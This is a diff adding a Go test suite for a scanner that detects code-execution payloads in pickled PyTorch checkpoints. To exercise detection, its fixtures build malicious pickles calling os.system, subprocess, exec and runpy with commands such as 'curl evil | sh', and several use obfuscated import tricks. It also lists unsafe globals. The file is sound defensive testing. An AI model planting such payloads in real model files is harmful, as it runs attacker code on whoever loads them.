@@ -1,0 +1,669 @@
+package manifest
+
+import (
+	"archive/zip"
+	"bufio"
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelvet/modelvet/finding"
+	"github.com/modelvet/modelvet/internal/limits"
+	"github.com/modelvet/modelvet/internal/testmodel"
+	"github.com/modelvet/modelvet/internal/testutil"
+)
+
+var fixtureTensors = []testmodel.Tensor{
+	{Name: "model.embed.weight", DType: "F32", Shape: []int64{4, 3}},
+	{Name: "model.norm.weight", DType: "BF16", Shape: []int64{3}},
+	{Name: "lm_head.bias", DType: "F16", Shape: []int64{4}},
+}
+
+func readPickleBytes(t testing.TB, data []byte) (*PickleInfo, error) {
+	t.Helper()
+	return ReadPickle(bytes.NewReader(data), int64(len(data)))
+}
+
+func globalNames(info *PickleInfo) []string {
+	var out []string
+	for _, g := range info.Globals {
+		out = append(out, g.String()+"="+g.Class)
+	}
+	return out
+}
+
+func TestReadPickleStateDictEveryProtocol(t *testing.T) {
+	want := []string{
+		"collections.OrderedDict=safe",
+		"torch.BFloat16Storage=safe",
+		"torch.FloatStorage=safe",
+		"torch.HalfStorage=safe",
+		"torch._utils._rebuild_tensor_v2=safe",
+	}
+	for proto := 0; proto <= 5; proto++ {
+		t.Run(fmt.Sprint("protocol", proto), func(t *testing.T) {
+			info, err := readPickleBytes(t, testmodel.TorchStateDict(proto, fixtureTensors, nil))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := globalNames(info); !slices.Equal(got, want) {
+				t.Errorf("globals = %q, want %q", got, want)
+			}
+			if info.Container != PickleRaw || info.Streams != 1 || info.Incomplete != "" {
+				t.Errorf("container %q streams %d incomplete %q", info.Container, info.Streams, info.Incomplete)
+			}
+			// Protocol 0 streams written by this builder use BINPERSID, a
+			// protocol 1 opcode.
+			if wantProto := max(proto, 1); info.Protocol != wantProto {
+				t.Errorf("protocol = %d, want %d", info.Protocol, wantProto)
+			}
+			if info.PersistentIDs != len(fixtureTensors) {
+				t.Errorf("persistent ids = %d, want %d", info.PersistentIDs, len(fixtureTensors))
+			}
+			// One OrderedDict() per tensor's hooks, one per tensor rebuild,
+			// one for the state dict.
+			if got := info.Calls["REDUCE"]; got != 2*len(fixtureTensors)+1 {
+				t.Errorf("REDUCE calls = %d", got)
+			}
+			if fs := info.findings("model.pkl"); len(fs) != 1 || fs[0].Code != finding.FormatPickle {
+				t.Errorf("findings = %+v, want only format.pickle", fs)
+			}
+		})
+	}
+}
+
+func TestReadPickleProtocolZeroOnly(t *testing.T) {
+	info, err := readPickleBytes(t, testmodel.MaliciousPickle(0, testmodel.ViaInst, "os", "system", "id"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Protocol != 0 {
+		t.Errorf("protocol = %d, want 0", info.Protocol)
+	}
+	if got := globalNames(info); !slices.Equal(got, []string{"os.system=unsafe"}) {
+		t.Errorf("globals = %q", got)
+	}
+	if info.Globals[0].Opcode != "INST" || info.Calls["INST"] != 1 {
+		t.Errorf("opcode %q, calls %v", info.Globals[0].Opcode, info.Calls)
+	}
+}
+
+func TestReadPickleMalicious(t *testing.T) {
+	ways := map[testmodel.Import]struct {
+		global, opcode string
+	}{
+		testmodel.ViaGlobal:      {"os.system", "GLOBAL"},
+		testmodel.ViaStackGlobal: {"os.system", "STACK_GLOBAL"},
+		testmodel.ViaInst:        {"os.system", "INST"},
+		testmodel.ViaMemo:        {"os.system", "STACK_GLOBAL"},
+		testmodel.ViaMemoShadow:  {"os.system", "STACK_GLOBAL"},
+		testmodel.ViaHidden:      {"unknown.system", "STACK_GLOBAL"},
+	}
+	for proto := 0; proto <= 5; proto++ {
+		for how, want := range ways {
+			t.Run(fmt.Sprintf("protocol%d/way%d", proto, how), func(t *testing.T) {
+				data := testmodel.MaliciousPickle(proto, how, "os", "system", "touch /tmp/pwned")
+				info, err := readPickleBytes(t, data)
+				if err != nil {
+					t.Fatal(err)
+				}
+				var found *PickleGlobal
+				for i, g := range info.Globals {
+					if g.String() == want.global {
+						found = &info.Globals[i]
+					}
+					if g.Module == "torch._utils" {
+						t.Errorf("memo shadowing fooled the walker: %v", g)
+					}
+				}
+				if found == nil {
+					t.Fatalf("globals = %q, want %s", globalNames(info), want.global)
+				}
+				if found.Class != PickleUnsafe || found.Opcode != want.opcode {
+					t.Errorf("global %+v, want class unsafe opcode %s", found, want.opcode)
+				}
+				if found.Offset < 0 || found.Offset >= int64(len(data)) || !bytes.ContainsAny(data[found.Offset:found.Offset+1], "ci\x93") {
+					t.Errorf("offset %d does not point at an import opcode", found.Offset)
+				}
+				fs := info.findings("evil.pkl")
+				if len(fs) != 2 || fs[1].Code != finding.FormatCodeExecution || !strings.Contains(fs[1].Message, want.global) {
+					t.Errorf("findings = %+v", fs)
+				}
+			})
+		}
+	}
+}
+
+func TestReadPickleTorchZip(t *testing.T) {
+	data := testmodel.TorchZip("archive", 2, fixtureTensors)
+	info, err := readPickleBytes(t, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Container != PickleZip || !slices.Equal(info.Members, []string{"archive/data.pkl"}) || info.Protocol != 2 {
+		t.Errorf("container %q members %q protocol %d", info.Container, info.Members, info.Protocol)
+	}
+	for _, g := range info.Globals {
+		if g.Class != PickleSafe || g.Member != "archive/data.pkl" {
+			t.Errorf("global %+v", g)
+		}
+		// Stored members are read in place: the offset is in the file.
+		if g.Offset <= 0 || g.Offset >= int64(len(data)) {
+			t.Errorf("offset %d outside the file", g.Offset)
+		}
+	}
+}
+
+func TestReadPickleTorchZipHostileMembers(t *testing.T) {
+	evilPkl := testmodel.TorchStateDict(2, fixtureTensors, func(p *testmodel.Pickler) {
+		p.Call("subprocess", "check_output", "id")
+	})
+	hidden := testmodel.MaliciousPickle(4, testmodel.ViaStackGlobal, "builtins", "exec", "print(1)")
+	data := testmodel.TorchZipWith("model", evilPkl, fixtureTensors, map[string][]byte{
+		"model/extra/state.pkl": testmodel.MaliciousPickle(2, testmodel.ViaGlobal, "runpy", "run_path", "x.py"),
+		"model/nosuffix":        hidden, // found by its magic
+		"model/data/9":          hidden, // storage bytes are never walked
+	})
+	info, err := readPickleBytes(t, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"model/data.pkl", "model/extra/state.pkl", "model/nosuffix"}
+	if !slices.Equal(info.Members, want) {
+		t.Errorf("members = %q, want %q", info.Members, want)
+	}
+	got := map[string]string{}
+	for _, g := range info.Globals {
+		got[g.String()] = g.Member + " " + g.Class
+	}
+	for k, v := range map[string]string{
+		"subprocess.check_output": "model/data.pkl unsafe",
+		"runpy.run_path":          "model/extra/state.pkl unsafe",
+		"builtins.exec":           "model/nosuffix unsafe",
+	} {
+		if got[k] != v {
+			t.Errorf("%s: got %q, want %q", k, got[k], v)
+		}
+	}
+}
+
+func TestReadPickleTorchZipDeflated(t *testing.T) {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, _ := zw.CreateHeader(&zip.FileHeader{Name: "archive/data.pkl", Method: zip.Deflate})
+	w.Write(testmodel.MaliciousPickle(2, testmodel.ViaGlobal, "os", "system", "id"))
+	zw.Close()
+	info, err := readPickleBytes(t, buf.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := globalNames(info); !slices.Equal(got, []string{"os.system=unsafe"}) {
+		t.Errorf("globals = %q", got)
+	}
+}
+
+func TestReadPickleZipWithoutPickle(t *testing.T) {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, _ := zw.Create("readme.txt")
+	w.Write([]byte("hello"))
+	zw.Close()
+	_, err := readPickleBytes(t, buf.Bytes())
+	var fe *FormatError
+	if !errors.As(err, &fe) || !strings.Contains(fe.Msg, "no data.pkl") {
+		t.Fatalf("err = %v", err)
+	}
+}
+
+func TestReadPickleZipEntryCap(t *testing.T) {
+	// A zip64 end record claiming 2^40 entries is refused before the
+	// directory is read.
+	var b bytes.Buffer
+	z64 := make([]byte, 56)
+	copy(z64, "PK\x06\x06")
+	binary.LittleEndian.PutUint64(z64[24:], 1<<40)
+	binary.LittleEndian.PutUint64(z64[32:], 1<<40)
+	b.Write([]byte("PK\x03\x04 junk"))
+	off := b.Len()
+	b.Write(z64)
+	loc := make([]byte, 20)
+	copy(loc, "PK\x06\x07")
+	binary.LittleEndian.PutUint64(loc[8:], uint64(off))
+	b.Write(loc)
+	eocd := make([]byte, 22)
+	copy(eocd, "PK\x05\x06")
+	binary.LittleEndian.PutUint16(eocd[8:], 0xffff)
+	binary.LittleEndian.PutUint16(eocd[10:], 0xffff)
+	b.Write(eocd)
+	_, err := readPickleBytes(t, b.Bytes())
+	if err == nil || !strings.Contains(err.Error(), "entry limit") {
+		t.Fatalf("err = %v", err)
+	}
+}
+
+func TestReadPickleLegacy(t *testing.T) {
+	for proto := 0; proto <= 5; proto++ {
+		data := testmodel.TorchLegacy(proto, fixtureTensors)
+		info, err := readPickleBytes(t, data)
+		if err != nil {
+			t.Fatalf("protocol %d: %v", proto, err)
+		}
+		if info.Container != PickleLegacy || info.Streams != 5 {
+			t.Errorf("protocol %d: container %q streams %d", proto, info.Container, info.Streams)
+		}
+		for _, g := range info.Globals {
+			if g.Class != PickleSafe {
+				t.Errorf("protocol %d: %+v", proto, g)
+			}
+		}
+		if len(info.Globals) != 5 {
+			t.Errorf("protocol %d: globals %q", proto, globalNames(info))
+		}
+	}
+	// A legacy file cut before its fifth pickle is incomplete.
+	data := testmodel.TorchLegacy(2, fixtureTensors)
+	first4 := bytes.Index(data, []byte("\x80\x02]")) // the storage-keys pickle
+	info, err := readPickleBytes(t, data[:first4])
+	if err == nil || info.Incomplete == "" {
+		t.Errorf("cut legacy file: err %v incomplete %q", err, info.Incomplete)
+	}
+}
+
+func TestReadPickleConcatenatedRaw(t *testing.T) {
+	first := testmodel.TorchStateDict(2, fixtureTensors, nil)
+	second := testmodel.MaliciousPickle(4, testmodel.ViaStackGlobal, "os", "system", "id")
+	data := append(append(slices.Clone(first), second...), "trailing junk"...)
+	info, err := readPickleBytes(t, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Streams != 2 || !slices.Contains(globalNames(info), "os.system=unsafe") {
+		t.Errorf("streams %d globals %q", info.Streams, globalNames(info))
+	}
+}
+
+func TestReadPickleStreamCap(t *testing.T) {
+	one := testmodel.NewPickler(2).None().Stop()
+	data := bytes.Repeat(one, limits.MaxPickleStreams+1)
+	info, err := readPickleBytes(t, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Streams != limits.MaxPickleStreams || !strings.Contains(info.Incomplete, "streams") {
+		t.Errorf("streams %d incomplete %q", info.Streams, info.Incomplete)
+	}
+}
+
+func TestReadPickleTextOperands(t *testing.T) {
+	// Protocol 0 STRING (quoted, escaped) and UNICODE (raw-unicode-escape)
+	// operands, resolved for STACK_GLOBAL.
+	p := testmodel.NewPickler(0)
+	p.PyString("o\x73").Raw([]byte("Vsys\\u0074em\n")...).StackGlobal()
+	p.Mark().PyString("id").Tuple().Reduce()
+	info, err := readPickleBytes(t, p.Stop())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := globalNames(info); !slices.Equal(got, []string{"os.system=unsafe"}) {
+		t.Errorf("globals = %q", got)
+	}
+	// An unquoted STRING is malformed.
+	_, err = readPickleBytes(t, []byte("Sos\n."))
+	if err == nil {
+		t.Error("unquoted STRING accepted")
+	}
+}
+
+func TestReadPickleExtension(t *testing.T) {
+	p := testmodel.NewPickler(2)
+	p.Ext(300).EmptyTuple().Reduce()
+	info, err := readPickleBytes(t, p.Stop())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(info.Globals) != 1 || info.Globals[0].Class != PickleUnknown || info.Globals[0].Opcode != "EXT2" || !strings.Contains(info.Globals[0].Name, "300") {
+		t.Errorf("globals = %+v", info.Globals)
+	}
+}
+
+func TestReadPickleLongOperandIsUnresolved(t *testing.T) {
+	long := strings.Repeat("a", limits.MaxPickleNameLen+1)
+	p := testmodel.NewPickler(4)
+	p.Str(long).Str("system").StackGlobal().Pop()
+	p.GlobalOpcode(long, "x")
+	info, err := readPickleBytes(t, p.Stop())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := globalNames(info); !slices.Equal(got, []string{"unknown.system=unsafe", "unknown.x=unsafe"}) {
+		t.Errorf("globals = %q", got)
+	}
+}
+
+// TestReadPickleTruncatedEverywhere cuts a hostile pickle at every byte:
+// each cut yields a FormatError with an offset inside the data and keeps
+// what was found before the cut.
+func TestReadPickleTruncatedEverywhere(t *testing.T) {
+	data := testmodel.TorchStateDict(4, fixtureTensors, func(p *testmodel.Pickler) { p.Call("os", "system", "id") })
+	full, err := readPickleBytes(t, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := 1; n < len(data); n++ {
+		info, err := readPickleBytes(t, data[:n])
+		var fe *FormatError
+		if !errors.As(err, &fe) {
+			t.Fatalf("cut at %d: err = %v", n, err)
+		}
+		if fe.Offset < 0 || fe.Offset > int64(n) {
+			t.Errorf("cut at %d: offset %d", n, fe.Offset)
+		}
+		if info == nil || info.Incomplete == "" || len(info.Globals) > len(full.Globals) {
+			t.Fatalf("cut at %d: info %+v", n, info)
+		}
+	}
+}
+
+func TestReadPickleHostile(t *testing.T) {
+	big := func(op byte, n uint64) []byte {
+		b := []byte{0x80, 4, op}
+		return binary.LittleEndian.AppendUint64(b, n)
+	}
+	cases := map[string]struct {
+		data []byte
+		want string
+	}{
+		"empty":             {nil, "empty pickle stream"},
+		"garbage":           {[]byte("\xff\xfe garbage"), "unknown opcode 0xff"},
+		"no STOP":           {[]byte{0x80, 2, 'N'}, "without a STOP"},
+		"underflow":         {[]byte{0x80, 2, 'R', '.'}, "underflow"},
+		"APPENDS no mark":   {[]byte{0x80, 2, ']', 'e', '.'}, "without a MARK"},
+		"negative BINSTR":   {[]byte{0x80, 2, 'T', 0xff, 0xff, 0xff, 0xff, '.'}, "negative length"},
+		"huge BINBYTES8":    {big(0x8e, 1<<62), "walk limit"},
+		"huge BINUNICODE8":  {big(0x8d, 1<<40), "walk limit"},
+		"short BINUNICODE":  {[]byte{0x80, 2, 'X', 10, 0, 0, 0, 'a', 'b'}, "truncated inside BINUNICODE"},
+		"bad protocol":      {[]byte{0x80, 9, 'N', '.'}, "unsupported pickle protocol 9"},
+		"memo miss":         {[]byte{0x80, 2, 'h', 5, '.'}, "never stored"},
+		"odd SETITEMS":      {[]byte{0x80, 2, '}', '(', 'N', 'u', '.'}, "odd number"},
+		"bad PUT":           {[]byte("Np-1\n."), "bad index"},
+		"STOP empty":        {[]byte{0x80, 2, '.'}, "underflow"},
+		"OBJ without class": {[]byte{0x80, 2, '(', 'o', '.'}, "without a class"},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			info, err := readPickleBytes(t, c.data)
+			var fe *FormatError
+			if !errors.As(err, &fe) || !strings.Contains(err.Error(), c.want) {
+				t.Fatalf("err = %v, want a FormatError containing %q", err, c.want)
+			}
+			if info == nil || info.Incomplete == "" {
+				t.Errorf("info = %+v, want Incomplete", info)
+			}
+		})
+	}
+}
+
+func TestReadPickleStackCap(t *testing.T) {
+	data := append([]byte{0x80, 2}, bytes.Repeat([]byte{'N'}, limits.MaxPickleStack+1)...)
+	_, err := readPickleBytes(t, append(data, '.'))
+	if err == nil || !strings.Contains(err.Error(), "stack deeper") {
+		t.Fatalf("err = %v", err)
+	}
+}
+
+func TestReadPickleGlobalsCap(t *testing.T) {
+	p := testmodel.NewPickler(2)
+	for i := 0; i <= limits.MaxPickleGlobals; i++ {
+		p.GlobalOpcode("m", fmt.Sprint("g", i)).Pop()
+	}
+	info, err := readPickleBytes(t, p.Raw('N').Stop())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(info.Globals) != limits.MaxPickleGlobals || !strings.Contains(info.Incomplete, "distinct globals") {
+		t.Errorf("%d globals, incomplete %q", len(info.Globals), info.Incomplete)
+	}
+}
+
+func TestReadPickleMemoOverflowIsUnknown(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds a memo of a million entries")
+	}
+	p := testmodel.NewPickler(2)
+	p.Str("os").Put(0).Str("system").Put(1)
+	p.Raw('N')
+	for i := 2; i <= limits.MaxPickleMemo+1; i++ {
+		p.Put(i)
+	}
+	p.Pop().Get(0).Get(1).StackGlobal().Pop().Pop()
+	info, err := readPickleBytes(t, p.Stop())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := globalNames(info); !slices.Equal(got, []string{"unknown.unknown=unsafe"}) {
+		t.Errorf("globals = %q", got)
+	}
+}
+
+// shrinkingReader reports fewer bytes than the size it was opened with, as
+// a file truncated while being read does.
+type shrinkingReader struct {
+	data []byte
+	at   int
+}
+
+func (r shrinkingReader) ReadAt(p []byte, off int64) (int, error) {
+	if off >= int64(r.at) {
+		return 0, io.EOF
+	}
+	n := copy(p, r.data[off:min(int64(len(r.data)), int64(r.at))])
+	if n < len(p) {
+		return n, io.EOF
+	}
+	return n, nil
+}
+
+func TestReadPickleFileShrinksWhileRead(t *testing.T) {
+	data := testmodel.TorchStateDict(2, fixtureTensors, nil)
+	_, err := ReadPickle(shrinkingReader{data, len(data) / 2}, int64(len(data)))
+	var fe *FormatError
+	if !errors.As(err, &fe) || !strings.Contains(fe.Msg, "truncated") {
+		t.Fatalf("err = %v", err)
+	}
+	zipData := testmodel.TorchZip("archive", 2, fixtureTensors)
+	_, err = ReadPickle(shrinkingReader{zipData, len(zipData) - 10}, int64(len(zipData)))
+	if err == nil {
+		t.Fatal("zip cut while read: no error")
+	}
+}
+
+func TestClassifyPickleGlobal(t *testing.T) {
+	for _, c := range []struct{ module, name, want string }{
+		{"torch._utils", "_rebuild_tensor_v2", PickleSafe},
+		{"torch._utils", "_rebuild_parameter", PickleSafe},
+		{"torch", "FloatStorage", PickleSafe},
+		{"torch", "bfloat16", PickleSafe},
+		{"collections", "OrderedDict", PickleSafe},
+		{"numpy.core.multiarray", "_reconstruct", PickleSafe},
+		{"__builtin__", "set", PickleSafe},
+		{"builtins", "eval", PickleUnsafe},
+		{"__builtin__", "eval", PickleUnsafe},
+		{"builtins", "getattr", PickleUnsafe},
+		{"builtins", "__import__", PickleUnsafe},
+		{"os", "system", PickleUnsafe},
+		{"os.path", "join", PickleUnsafe},
+		{"posix", "system", PickleUnsafe},
+		{"nt", "system", PickleUnsafe},
+		{"subprocess", "Popen", PickleUnsafe},
+		{"aiohttp.client", "request", PickleUnsafe},
+		{"operator", "attrgetter", PickleUnsafe},
+		{"idlelib.pyshell", "ModifiedInterpreter.runcode", PickleUnsafe},
+		{"torch.serialization", "load", PickleUnsafe},
+		{"operator", "add", PickleUnknown},
+		{"osx", "anything", PickleUnknown},
+		{"sklearn.linear_model", "LogisticRegression", PickleUnknown},
+		{"torch._utils", "_rebuild_tensor_v9", PickleUnknown},
+		{"unknown", "unknown", PickleUnknown},
+	} {
+		if got := ClassifyPickleGlobal(c.module, c.name); got != c.want {
+			t.Errorf("%s.%s = %s, want %s", c.module, c.name, got, c.want)
+		}
+	}
+}
+
+// TestPicklePolicyMatchesResearch checks the embedded lists against the
+// research table they were built from: every picklescan and modelscan
+// global keeps its class.
+func TestPicklePolicyMatchesResearch(t *testing.T) {
+	f, err := os.Open(testutil.Research(t, "data", "pickle-globals-policy.tsv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	sc := bufio.NewScanner(f)
+	sc.Scan() // header
+	n := 0
+	for sc.Scan() {
+		cols := strings.Split(sc.Text(), "\t")
+		if len(cols) != 4 {
+			continue
+		}
+		want := PickleUnsafe
+		if strings.HasPrefix(cols[1], "safe") {
+			want = PickleSafe
+		}
+		for name := range strings.SplitSeq(cols[3], ",") {
+			if name == "*" {
+				name = "anything"
+			}
+			if got := ClassifyPickleGlobal(cols[2], name); got != want {
+				t.Errorf("%s %s.%s = %s, want %s", cols[0], cols[2], name, got, want)
+			}
+			n++
+		}
+	}
+	if n < 100 {
+		t.Errorf("only %d entries checked", n)
+	}
+}
+
+// TestPickleFindingsEndToEnd audits a directory holding a hostile
+// checkpoint through Parse and Open.
+func TestPickleFindingsEndToEnd(t *testing.T) {
+	dir := t.TempDir()
+	evil := testmodel.TorchZipWith("archive", testmodel.TorchStateDict(2, fixtureTensors, func(p *testmodel.Pickler) {
+		p.Call("os", "system", "curl evil | sh")
+	}), fixtureTensors, nil)
+	os.WriteFile(filepath.Join(dir, "pytorch_model.bin"), evil, 0o644)
+	os.WriteFile(filepath.Join(dir, "clean.pt"), testmodel.TorchZip("clean", 2, fixtureTensors), 0o644)
+	os.WriteFile(filepath.Join(dir, "optimizer.pkl"), testmodel.MaliciousPickle(0, testmodel.ViaInst, "subprocess", "call", "id"), 0o644)
+	src, err := Parse(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rel, err := src.Open(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	codes := map[string][]finding.Code{}
+	for _, f := range rel.Findings() {
+		codes[f.Subject] = append(codes[f.Subject], f.Code)
+	}
+	want := map[string][]finding.Code{
+		"clean.pt":          {finding.FormatPickle},
+		"optimizer.pkl":     {finding.FormatCodeExecution, finding.FormatPickle},
+		"pytorch_model.bin": {finding.FormatCodeExecution, finding.FormatPickle},
+	}
+	for k, v := range want {
+		got := codes[k]
+		slices.Sort(got)
+		if !slices.Equal(got, v) {
+			t.Errorf("%s: codes %v, want %v", k, got, v)
+		}
+	}
+	if f := rel.File("optimizer.pkl"); f == nil || f.Format != FormatPickle || f.Pickle == nil || f.Pickle.Protocol != 0 {
+		t.Errorf("optimizer.pkl = %+v", f)
+	}
+	if f := rel.File("pytorch_model.bin"); f == nil || f.Format != FormatPyTorch {
+		t.Errorf("pytorch_model.bin = %+v", f)
+	}
+}
+
+func FuzzReadPickle(f *testing.F) {
+	f.Add(testmodel.TorchStateDict(2, fixtureTensors, nil))
+	f.Add(testmodel.TorchStateDict(0, fixtureTensors[:1], nil))
+	f.Add(testmodel.TorchStateDict(5, fixtureTensors[:1], nil))
+	f.Add(testmodel.TorchZip("archive", 2, fixtureTensors[:1]))
+	f.Add(testmodel.TorchLegacy(2, fixtureTensors[:1]))
+	f.Add(testmodel.TorchLegacy(0, fixtureTensors[:1]))
+	for how := testmodel.ViaGlobal; how <= testmodel.ViaHidden; how++ {
+		f.Add(testmodel.MaliciousPickle(4, how, "os", "system", "id"))
+		f.Add(testmodel.MaliciousPickle(1, how, "os", "system", "id"))
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		info, err := ReadPickle(bytes.NewReader(data), int64(len(data)))
+		if info == nil {
+			t.Fatal("nil info")
+		}
+		if err != nil {
+			var fe *FormatError
+			if !errors.As(err, &fe) {
+				t.Fatalf("error %v is not a FormatError", err)
+			}
+			if info.Incomplete == "" {
+				t.Fatal("error without Incomplete")
+			}
+		}
+		for i, g := range info.Globals {
+			switch g.Class {
+			case PickleSafe, PickleUnsafe, PickleUnknown:
+			default:
+				t.Fatalf("class %q", g.Class)
+			}
+			if i > 0 && info.Globals[i-1].Module > g.Module {
+				t.Fatal("globals not sorted")
+			}
+		}
+		if len(info.Globals) > limits.MaxPickleGlobals {
+			t.Fatal("globals over the cap")
+		}
+	})
+}
+
+func BenchmarkReadPickleStateDict(b *testing.B) {
+	var ts []testmodel.Tensor
+	for i := range 2000 {
+		ts = append(ts, testmodel.Tensor{Name: fmt.Sprintf("model.layers.%d.mlp.weight", i), DType: "BF16", Shape: []int64{8, 8}})
+	}
+	data := testmodel.TorchZip("archive", 2, ts)
+	b.SetBytes(int64(len(data)))
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := ReadPickle(bytes.NewReader(data), int64(len(data))); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkReadPickleLargeRaw(b *testing.B) {
+	// A protocol 4 pickle of many small objects: the per-opcode cost.
+	p := testmodel.NewPickler(4)
+	p.EmptyList()
+	for i := range 200_000 {
+		p.Mark().Int(int64(i)).Str("x").Float(1.5).Tuple().Raw('a')
+	}
+	data := p.Stop()
+	b.SetBytes(int64(len(data)))
+	for b.Loop() {
+		if _, err := ReadPickle(bytes.NewReader(data), int64(len(data))); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
